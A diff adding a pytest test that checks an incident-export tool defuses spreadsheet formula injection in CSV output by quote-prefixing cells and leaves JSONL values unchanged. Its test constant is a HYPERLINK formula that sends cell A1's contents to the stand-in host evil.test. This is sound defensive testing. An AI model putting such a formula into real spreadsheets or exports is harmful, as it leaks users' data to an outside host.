@@ -132,3 +132,48 @@ def test_labels_are_read_whatever_their_case(capsys, db):
                         "--db", db)
     rows = [json.loads(line) for line in out.splitlines()]
     assert code == 0 and rows and all("data_breach" in r["impact"] for r in rows)
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")'
+
+
+def test_csv_export_makes_formula_cells_inert_and_jsonl_keeps_them(capsys, make_store,
+                                                                    tmp_path):
+    from datetime import date
+
+    from incidents.export import incident_from_row
+    from incidents.regroup import regroup
+    from pannes.records import Article, Tags
+
+    store = make_store("formula.db")
+    result = store.upsert_article(Article(
+        url="http://news.test/1", source="@Source", title=FORMULA,
+        text="Panne chez Hexaline : les clients privés de service toute la journée.",
+        published=date(2024, 10, 17)))
+    store.save_tags(result.article_id, result.version,
+                    Tags(is_outage=True, outage_score=1.0, vendors=["+Hexaline"],
+                         affected=["-Mairie"], start=date(2024, 10, 17),
+                         pipeline_version="gold"))
+    regroup(store)
+    db = str(store.path)
+    store.close()
+
+    code, out, _ = _run(capsys, "export", "incidents", "-f", "csv", "--db", db)
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0
+    assert row["title"] == "'" + FORMULA
+    assert row["vendors"] == "'+Hexaline" and row["affected"] == "'-Mairie"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+    parsed = incident_from_row(row)  # reading back gives the text again
+    assert (parsed.title, parsed.vendors, parsed.affected) == (FORMULA, ["+Hexaline"],
+                                                               ["-Mairie"])
+    code, out, _ = _run(capsys, "export", "articles", "-f", "csv", "--db", db)
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert (row["title"], row["source"]) == ("'" + FORMULA, "'@Source")
+
+    code, out, _ = _run(capsys, "export", "incidents", "-f", "jsonl", "--db", db)
+    [data] = [json.loads(line) for line in out.splitlines()]
+    assert data["title"] == FORMULA and data["vendors"] == ["+Hexaline"]
+    code, out, _ = _run(capsys, "export", "articles", "-f", "jsonl", "--db", db)
+    [data] = [json.loads(line) for line in out.splitlines()]
+    assert (data["title"], data["source"]) == (FORMULA, "@Source")
